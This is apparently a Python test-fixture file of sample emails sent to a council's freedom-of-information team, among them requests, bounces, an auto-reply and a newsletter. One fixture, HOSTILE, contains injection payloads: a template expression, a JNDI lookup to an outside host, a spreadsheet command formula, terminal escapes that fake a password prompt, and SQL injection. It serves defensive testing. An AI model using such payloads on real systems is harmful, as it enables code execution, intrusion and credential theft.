"""What the sample mails say: letters of made-up people, a newsletter, a bounce, and one with traps in it."""

from __future__ import annotations

START_FOR_LIFE = """\
Dear Information Governance Team,

I would like to make a request under the Freedom of Information Act 2000 about Start for Life services in your area. \
Please tell me:

1. How many babies were born in your local authority area from 1 April 2021 to 1 April 2023?

2. How many babies do you estimate there are aged 0-2 living in your local authority area currently?

3. What proportion of them accessed Start for Life services during the period 1 April 2022 to 1 April 2023?

4. The Family Hubs and Start for Life programme guide states that 10% of babies have a 'disorganised' attachment \
style which is associated with the worst developmental outcomes. (see Annex I: perinatal mental health and \
parent\u2013infant relationship support on p81) What percentage of babies aged 0-2 in your Integrated Care System are \
you commissioning specialised parent-infant relationship services for? i.e. a clinical psychologist or child \
psychotherapist led service, as outlined here: <https://parentinfantfoundation.org.uk/our-work/what-is-a-parent-infant-team/>

An answer by email is fine.

Yours faithfully,

Rowan Ellery
"""

LIBRARIES = """\
<!DOCTYPE html>
<html><head><style>p { margin: 0 } .sig { color: #666 }</style></head>
<body lang="EN-GB">
<p>Good morning,</p><p>&nbsp;</p>
<p>Under the <b>Freedom of Information Act</b> could you please let me have the following for 2024&ndash;25:</p>
<ol>
<li>How many library visits did each branch library record?</li>
<li>How much did the council spend on new books &amp; e-books?</li>
<li>Which branches had their opening hours cut?</li>
</ol>
<p>A spreadsheet would be ideal.</p><p>&nbsp;</p>
<p class="sig">Priya Standish<br>Friends of the Reading Room</p>
</body></html>
"""

POTHOLES = """\
Dear council,

Please provide the following under the Freedom of Information Act 2000:

1) the number of reports of potholes you received in each month of the last two financial years;
2) the number of claims for damage to vehicles made against you in the same period;
3) the total paid out on those claims.

Yours faithfully,

Jo Marlowe

-------------------------------------------------------------------

Please send your answer to this address only:
{address}

Is {council} the wrong place for requests like this one? Tell us here:
https://www.whatdotheyknow.com/change_request/new?body=council

This message and whatever you send back will appear on the website for anybody to read. Our rules on privacy and
copyright: https://www.whatdotheyknow.com/help/officers

Before you release files, please read the Commissioner's guidance on disclosing information safely:
https://ico.org.uk/for-organisations/advice-to-safely-disclose/

If you look after your council's website, a link to our page about you would be welcome.
"""

ENVIRONMENT = """\
Hello,

We live beside the ring road and I believe the Environmental Information Regulations 2004 apply to what we would like \
to know:

- How many street trees were felled in our ward in each of the last three years, and why?
- How many trees were planted to replace them?
- What were the monthly mean readings of nitrogen dioxide at the air quality monitoring station nearest to the ring \
road since January last year?

Thank you,
Tomasz Wren, for the residents of Elm Terrace
"""

SUBJECT_ACCESS = """\
Dear Sir or Madam,

This is a subject access request under Article 15 of the UK GDPR. Please send me a copy of all the personal data that \
you hold about me, in particular my council tax record and the notes of my telephone calls with your housing team.

I can send proof of who I am if you need it.

Amina Clearwater
"""

WITH_PLAN = """\
Dear FOI team,

My request is about the crossing shown on the attached plan.

(a) Please send me the risk assessment for the school crossing on Orchard Lane.
(b) What was the date of the last safety audit there?

Kind regards
Gwen Pallister
"""

ACCENTS = """\
Madame, Sir,

I am writing about the Caf\xe9 No\xebl at the Christmas market. Under the Freedom of Information Act:

Q1 How much rent, in \xa3, did the caf\xe9's operator pay the council last winter?
Q2 Was any of the \xa325,000 grant for na\xefve art spent on its fa\xe7ade?

Ren\xe9e C\xf4t\xe9
"""

AWAY = """\
Thank you for your email. I am away until Monday week and shall read it when I am back.

For anything urgent please ring our office.

Hedley Quill
"""

BOUNCED = """\
The mail system at mx.example.net could not deliver your message.

<former.tenant@example.net>: there is no such mailbox here (550 5.1.1)

Nothing else has been tried. The headers of your message follow.
"""

BOUNCED_STATUS = """\
Reporting-MTA: dns; mx.example.net
Arrival-Date: {date}

Final-Recipient: rfc822; former.tenant@example.net
Action: failed
Status: 5.1.1
Remote-MTA: dns; mail.example.net
Diagnostic-Code: smtp; 550 5.1.1 no such mailbox here
"""

BOUNCED_HEADERS = """\
From: {address}
To: former.tenant@example.net
Subject: Our answer to your request
Message-ID: <5e1f0c77@council.example.org>
"""

NEWSLETTER = """\
Open Data Digest

This week: seven councils publish their spending line by line; how to name columns so that nobody has to ask; and \
could your disclosure log be searched?

You get this because you signed up. Leave at any time: https://lists.example.com/digest/leave
"""

# Besides its question: a template expression, a look-up, a spreadsheet formula, terminal escapes and quoted SQL.
HOSTILE = """\
Dear council,

How many parking fines did you issue on Market Street last year?

{{ 7 * 7 }} ${{jndi:ldap://example.net/x}} =cmd|'/c calc'!A1
\x1b[2J\x1b[31mYour session has ended. Type your password:\x1b[0m
Ref: FOI000000000' OR 1=1 --

M. Vane
"""

INTERNAL = """\
Hi both,

The figures for the library question are on the shared drive, and Parks say that theirs will be ready on Thursday. \
Shall we talk about the wording tomorrow?

Dev
Performance and Data
"""

THANKS = """\
Thank you very much for your helpful answer to my question about allotments. It was just what I needed.

Best wishes
Bram Oakley
"""

REPLY = """\
Thank you for the quick acknowledgement of {reference}.

To clarify my third question: by "accessed" I mean children who were seen at least once in a family hub, not those who \
were only invited.

Rowan Ellery

On {date}, Information Governance wrote:
> Thank you for your request. Its reference is {reference}.
> Please quote it whenever you write to us.
"""
